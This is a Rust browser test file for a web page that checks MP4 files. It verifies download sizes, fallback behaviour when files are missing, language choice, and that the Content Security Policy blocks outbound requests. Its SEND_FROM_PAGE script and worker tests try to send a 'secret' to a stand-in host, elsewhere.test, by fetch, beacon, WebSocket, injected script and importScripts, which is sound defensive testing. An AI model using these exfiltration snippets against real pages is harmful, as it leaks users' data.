//! The page opens wherever it is put, asks for nothing but its own files, and once it is open for
//! nothing at all.

use crate::browser::{Browser, Setting, with_browser};
use crate::files::fixture;
use crate::server::Manner;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::Write;
use std::sync::Arc;
use thirtyfour::prelude::*;

/// What may be downloaded before the page is ready for a file, in bytes as servers send it (brotli).
const FIRST_LOAD: usize = 200_000;

/// What stands below a verdict, which is asked for when all of that has come.
const AFTER: &str = "after.wasm";

/// The English words, which are asked for next.
const ENGLISH: &str = "en.txt";

/// What examines the sound, which is asked for last of all.
const EXAMINER: [&str; 2] = ["examiner.js", "examiner_bg.wasm"];

/// What each of the three may be, in bytes as servers send them.
const AFTER_LOAD: usize = 75_000;
const ENGLISH_LOAD: usize = 20_000;
const EXAMINER_LOAD: usize = 280_000;

/// The names of the files that were asked for; fails on anything else.
fn own_files(browser: &Browser) -> Vec<String> {
    let url = browser.server.url("localhost");
    let host = url.split('/').nth(2).unwrap();
    let asked = browser.asked();
    assert!(!asked.is_empty());
    asked
        .into_iter()
        .map(|asked| {
            assert_eq!(asked.host, host, "a request to elsewhere: {asked:?}");
            let path = asked
                .line
                .strip_prefix("GET /")
                .unwrap_or_else(|| panic!("{asked:?}"));
            let name = path.split([' ', '?']).next().unwrap();
            let name = if name.is_empty() { "index.html" } else { name };
            assert!(
                browser.site.files.contains_key(name),
                "no such file: {asked:?}"
            );
            name.to_owned()
        })
        .collect()
}

#[tokio::test]
async fn it_asks_once_for_each_of_its_files_and_for_nothing_else() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        let asked = own_files(browser);
        let once: BTreeSet<_> = asked.iter().cloned().collect();
        assert_eq!(once.len(), asked.len(), "asked for twice: {asked:?}");
        let all: BTreeSet<_> = browser.site.files.keys().cloned().collect();
        assert_eq!(
            once, all,
            "what is served is needed, and what is needed is served"
        );
        assert_eq!(browser.complaints().await, Vec::<String>::new());
    })
    .await;
}

#[tokio::test]
async fn the_first_load_is_small() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        let sizes: Vec<(String, usize)> = own_files(browser)
            .into_iter()
            .map(|name| {
                let size = brotli_size(&browser.site.files[&name]);
                (name, size)
            })
            .collect();
        let total = |fits: &dyn Fn(&str) -> bool| {
            let sizes = sizes.iter().filter(|(name, _)| fits(name));
            sizes.map(|(_, size)| size).sum::<usize>()
        };
        let is_examiner = |name: &str| EXAMINER.contains(&name);
        let is_later = |name: &str| [AFTER, ENGLISH].contains(&name) || is_examiner(name);
        let first = total(&|name| !is_later(name));
        let after = total(&|name| name == AFTER);
        let english = total(&|name| name == ENGLISH);
        let examiner = total(&is_examiner);
        println!(
            "{first} bytes first, then {after}, {english} of English, {examiner} of the examiner"
        );
        assert!(first <= FIRST_LOAD, "{first} bytes: {sizes:?}");
        assert!(after > 0 && after <= AFTER_LOAD, "{after}");
        assert!(english > 0 && english <= ENGLISH_LOAD, "{english}");
        assert!(examiner > 0 && examiner <= EXAMINER_LOAD, "{examiner}");
    })
    .await;
}

#[tokio::test]
async fn what_a_verdict_does_not_need_is_asked_for_after_everything_else() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        let asked = own_files(browser);
        let (_, last) = asked.split_at(asked.len() - 4);
        let last: BTreeSet<&str> = last.iter().map(String::as_str).collect();
        let later = BTreeSet::from([AFTER, ENGLISH, EXAMINER[0], EXAMINER[1]]);
        assert_eq!(last, later);
    })
    .await;
}

/// All that is there of the page while what follows from a verdict has not come, or never does.
async fn use_without_what_follows(browser: &Browser) {
    browser.find("[data-draft='no-sound.mp4']").await;
    for (name, verdict) in [
        ("1080p.mp4", "confirm"),
        ("720p.mp4", "breaks"),
        ("fragmented-many.mp4", "confirm"),
        ("cut-off.mp4", "cannot-tell"),
        ("junk-after.mp4", "confirm"),
    ] {
        assert_eq!(browser.judge(&fixture(name)).await, verdict, "{name}");
    }
    browser.press("[data-open='720p.mp4']").await;
    for lang in ["en", "zh-CN"] {
        browser.speak(lang).await;
    }
    browser.press("[data-draft='no-sound.mp4'] button").await;
    let remove = "[data-file='720p.mp4'] [data-action=remove]";
    browser.press(remove).await;
    browser.press("[data-open='cut-off.mp4']").await;
    let left = "return [document.querySelectorAll('[data-file]').length, \
                document.querySelectorAll('#shelf').length, document.querySelector('#stopped').hidden]";
    assert_eq!(browser.script(left).await, json!([4, 0, true]));
}

#[tokio::test]
async fn without_what_follows_from_a_verdict_the_page_gives_verdicts_and_says_so() {
    with_browser(Setting::default(), async |browser| {
        let good = &browser.site.files[AFTER];
        let cut_off = good[..good.len() / 2].to_vec();
        for left in [None, Some(cut_off)] {
            browser.server.serve(Arc::clone(&browser.site.files));
            browser.open().await;
            browser.judge(&fixture("no-sound.mp4")).await;
            browser.fill("topic", "锤炼").await;
            browser.draft_is_kept("锤炼").await;
            let mut files = (*browser.site.files).clone();
            match left {
                None => files.remove(AFTER),
                Some(bytes) => files.insert(AFTER.to_owned(), bytes),
            };
            browser.server.serve(Arc::new(files));
            browser.goto().await;
            browser.find("[data-after=absent]").await;
            browser.find("[data-lang=en]:enabled").await;
            use_without_what_follows(browser).await;
            let words = browser.words("cut-off.mp4").await;
            assert!(
                words.contains("没有下载成功") && words.contains("F5"),
                "{words}"
            );
        }
    })
    .await;
}

#[tokio::test]
async fn a_verdict_does_not_wait_for_what_follows_from_it() {
    with_browser(Setting::default(), async |browser| {
        // The page's first part is compiled; all else is held back.
        let hold = "const whole = WebAssembly.compileStreaming; \
                    const held = []; \
                    let first = true; \
                    WebAssembly.compileStreaming = (stream) => { \
                        if (first) { first = false; return whole(stream); } \
                        return new Promise((go) => held.push(() => go(whole(stream)))); \
                    }; \
                    window.go = () => held.forEach((go) => go());";
        browser.before_any_script(hold).await;
        browser.goto().await;
        assert_eq!(browser.judge(&fixture("720p.mp4")).await, "breaks");
        browser.find("[data-after=coming]").await;
        let words = browser.words("720p.mp4").await;
        assert!(words.contains("正在载入"), "{words}");
        browser.script("window.go()").await;
        browser.find("[data-file='720p.mp4'] [data-remedy]").await;
        browser.find("#preview").await;
    })
    .await;
}

#[tokio::test]
async fn without_its_examiner_the_page_works_and_says_so() {
    with_browser(Setting::default(), async |browser| {
        let good = &browser.site.files[EXAMINER[1]];
        let cut_off = good[..good.len() / 2].to_vec();
        for (name, left) in [
            (EXAMINER[0], None),
            (EXAMINER[1], None),
            (EXAMINER[1], Some(cut_off)),
        ] {
            let mut files = (*browser.site.files).clone();
            match left {
                None => files.remove(name),
                Some(bytes) => files.insert(name.to_owned(), bytes),
            };
            browser.server.serve(Arc::new(files));
            browser.goto().await;
            assert_eq!(browser.judge(&fixture("1080p.mp4")).await, "confirm");
            browser.find("[data-examiner=absent]").await;
            let words = browser.find("#examination").await.text().await.unwrap();
            assert!(
                words.contains("没有下载成功") && words.contains("F5"),
                "{words}"
            );
        }
    })
    .await;
}

/// What the browser keeps as the language that was chosen.
async fn kept_language(browser: &Browser) -> Value {
    browser
        .script("return localStorage.getItem('yujian/lang')")
        .await
}

#[tokio::test]
async fn a_choice_of_english_is_kept() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        browser.speak("en").await;
        browser.driver.refresh().await.unwrap();
        browser.find("html[lang=en] input[type=file]").await;
        browser.find("[data-lang=en][aria-pressed=true]").await;
        browser.speak("zh-CN").await;
        browser.open().await;
        browser
            .find("html[lang=zh-CN] [data-lang='zh-CN'][aria-pressed=true]")
            .await;
    })
    .await;
}

#[tokio::test]
async fn without_its_english_the_page_works_in_chinese() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        browser.speak("en").await;
        let good = &browser.site.files[ENGLISH];
        let cut_off = good[..good.len() / 2].to_vec();
        for left in [None, Some(cut_off)] {
            let mut files = (*browser.site.files).clone();
            match left {
                None => files.remove(ENGLISH),
                Some(bytes) => files.insert(ENGLISH.to_owned(), bytes),
            };
            browser.server.serve(Arc::new(files));
            browser.goto().await;
            let name = "1080p.mp4";
            assert_eq!(browser.judge(&fixture(name)).await, "confirm");
            browser.sha256(name).await;
            assert!(browser.words(name).await.contains("待确认"));
            // Long after the answer about the English.
            browser
                .find("html[lang=zh-CN] [data-lang=en][title*=F5]:disabled")
                .await;
            assert_eq!(kept_language(browser).await, json!("en"));
        }
        // The choice waited for its words.
        browser.server.serve(Arc::clone(&browser.site.files));
        browser.open().await;
        browser.find("html[lang=en]").await;
    })
    .await;
}

fn brotli_size(bytes: &[u8]) -> usize {
    let mut packed = Vec::new();
    let mut writer = brotli::CompressorWriter::new(&mut packed, 1 << 16, 11, 22);
    writer.write_all(bytes).unwrap();
    drop(writer);
    packed.len()
}

#[tokio::test]
async fn it_opens_under_any_path_and_with_a_wrong_type_for_wasm() {
    let manner = Manner {
        path: "/dangjian/2024/yujian/",
        wasm_type: "text/plain",
    };
    with_browser(
        Setting {
            manner,
            ..Setting::default()
        },
        async |browser| {
            browser.open().await;
            assert!(
                browser
                    .asked()
                    .iter()
                    .all(|asked| asked.line.starts_with("GET /dangjian/2024/yujian/"))
            );
            assert_eq!(browser.complaints().await, Vec::<String>::new());
        },
    )
    .await;
}

#[tokio::test]
async fn it_opens_on_plain_http_as_a_college_serves_it() {
    let setting = Setting {
        host: "college.test",
        ..Setting::default()
    };
    with_browser(setting, async |browser| {
        browser.open().await;
        assert_eq!(browser.script("return isSecureContext").await, json!(false));
        assert_eq!(browser.complaints().await, Vec::<String>::new());
    })
    .await;
}

/// Tries each way in which a script could send something away, and tells what became of each.
const SEND_FROM_PAGE: &str = r"
const done = arguments[arguments.length - 1];
const tries = {
  fetch: () => fetch('?secret'),
  elsewhere: () => fetch('http://elsewhere.test/?secret'),
  image: () => new Promise((ok, no) => {
    const image = new Image(); image.onload = ok; image.onerror = no; image.src = '/?secret'; }),
  script: () => new Promise((ok, no) => {
    const script = document.createElement('script');
    script.onload = ok; script.onerror = no; script.src = '/check.js?secret'; document.head.append(script); }),
  style: () => new Promise((ok, no) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet'; link.onload = ok; link.onerror = no; link.href = '/screen.css?secret';
    document.head.append(link); }),
  socket: () => new Promise((ok, no) => {
    const socket = new WebSocket('ws://' + location.host + '/secret'); socket.onopen = ok; socket.onerror = no; }),
  events: () => new Promise((ok, no) => {
    const events = new EventSource('/secret'); events.onopen = ok; events.onerror = no; }),
};
const beacon = navigator.sendBeacon('/secret', 'secret');
Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
  try { await attempt(); return name + ' went out'; } catch { return name + ' was stopped'; }
})).then(done);
";

#[tokio::test]
async fn nothing_can_leave_the_page() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        browser.asked();
        let answer = browser
            .driver
            .execute_async(SEND_FROM_PAGE, Vec::new())
            .await
            .unwrap();
        let answer: Vec<String> = answer.convert().unwrap();
        assert_eq!(answer.len(), 7);
        assert!(
            answer.iter().all(|word| word.ends_with("was stopped")),
            "{answer:?}"
        );
        assert_eq!(browser.asked(), []);
        assert!(
            browser
                .complaints()
                .await
                .iter()
                .any(|word| word.contains("Content Security Policy"))
        );
    })
    .await;
}

#[tokio::test]
async fn nothing_can_leave_a_worker() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        browser.asked();
        let mut debugger = browser.debugger().await;
        // Both run before any file is chosen.
        for name in ["inspect", "hash"] {
            let worker = &debugger.worker(name);
            for target in [
                browser.server.url("localhost"),
                "http://elsewhere.test/".to_owned(),
            ] {
                let attempt = format!(
                    "fetch('{target}?secret').then(() => 'went out', (error) => error.name)"
                );
                assert_eq!(debugger.evaluate(worker, &attempt), json!("TypeError"));
            }
            let attempt = "try { importScripts('http://elsewhere.test/'); 'went out' } \
                           catch (error) { error.name }";
            assert_eq!(debugger.evaluate(worker, attempt), json!("NetworkError"));
        }
        assert_eq!(browser.asked(), []);
    })
    .await;
}

#[tokio::test]
async fn the_test_server_would_have_seen_a_request() {
    // The two tests above prove something only if a request that is not stopped arrives.
    with_browser(Setting::default(), async |browser| {
        let blank = browser.server.url("localhost") + "notice.json";
        browser.driver.goto(blank).await.unwrap();
        browser.asked();
        let send = "const done = arguments[0]; fetch('http://elsewhere.test/?secret', {mode: 'no-cors'}).then(done, done)";
        browser.driver.execute_async(send, Vec::new()).await.unwrap();
        let asked = browser.asked();
        assert!(asked.iter().any(|asked| asked.host == "elsewhere.test"), "{asked:?}");
    })
    .await;
}

/// Whether the element of that id is shown, waited for, and nothing else of its kind is.
async fn says(browser: &Browser, id: &str, words: &str) {
    let element = browser
        .until(id, async || {
            let element = browser.driver.find(By::Id(id)).await.ok()?;
            element.is_displayed().await.ok()?.then_some(element)
        })
        .await;
    let text = element.text().await.unwrap();
    assert!(text.contains(words), "{text}");
    let shown =
        browser.script("return document.querySelectorAll('[role=alert]:not([hidden])').length");
    assert_eq!(shown.await, json!(1));
    let loading = browser.script("return document.getElementById('loading').hidden");
    assert_eq!(loading.await, json!(true));
}

#[tokio::test]
async fn a_browser_that_is_too_old_is_told_what_to_use() {
    // Each of these is what an older browser lacks.
    for lack in [
        "delete window.WebAssembly",
        "WebAssembly.Module = class { constructor() { throw new WebAssembly.CompileError('CSP') } }",
        "delete Blob.prototype.arrayBuffer",
    ] {
        with_browser(Setting::default(), async |browser| {
            browser.before_any_script(lack).await;
            browser
                .driver
                .goto(browser.server.url("localhost"))
                .await
                .unwrap();
            says(browser, "too-old", "极速模式").await;
            says(browser, "too-old", "Edge 97").await;
        })
        .await;
    }
}

#[tokio::test]
async fn a_page_that_cannot_load_says_so() {
    with_browser(Setting::default(), async |browser| {
        for missing in ["page_bg.wasm", "page.js", "boot.js", "notice.json"] {
            let mut files = (*browser.site.files).clone();
            files.remove(missing).expect(missing);
            browser.server.serve(Arc::new(files));
            let url = browser.server.url("localhost");
            browser.driver.goto(url).await.unwrap();
            says(browser, "load-failed", "F5").await;
        }
    })
    .await;
}

#[tokio::test]
async fn a_page_opened_from_a_folder_says_so() {
    with_browser(Setting::default(), async |browser| {
        for (name, bytes) in browser.site.files.iter() {
            std::fs::write(browser.path(name), bytes).unwrap();
        }
        let url = format!("file://{}", browser.path("index.html").display());
        browser.driver.goto(url).await.unwrap();
        says(browser, "from-folder", "http://").await;
    })
    .await;
}

#[tokio::test]
async fn a_browser_without_scripts_is_told_why_they_are_needed() {
    with_browser(Setting::default(), async |browser| {
        let off = json!({ "value": true });
        browser
            .driver
            .cdp()
            .send_raw("Emulation.setScriptExecutionDisabled", off)
            .await
            .unwrap();
        browser
            .driver
            .goto(browser.server.url("localhost"))
            .await
            .unwrap();
        let text = browser.find("noscript").await.text().await.unwrap();
        assert!(text.contains("JavaScript"), "{text}");
    })
    .await;
}
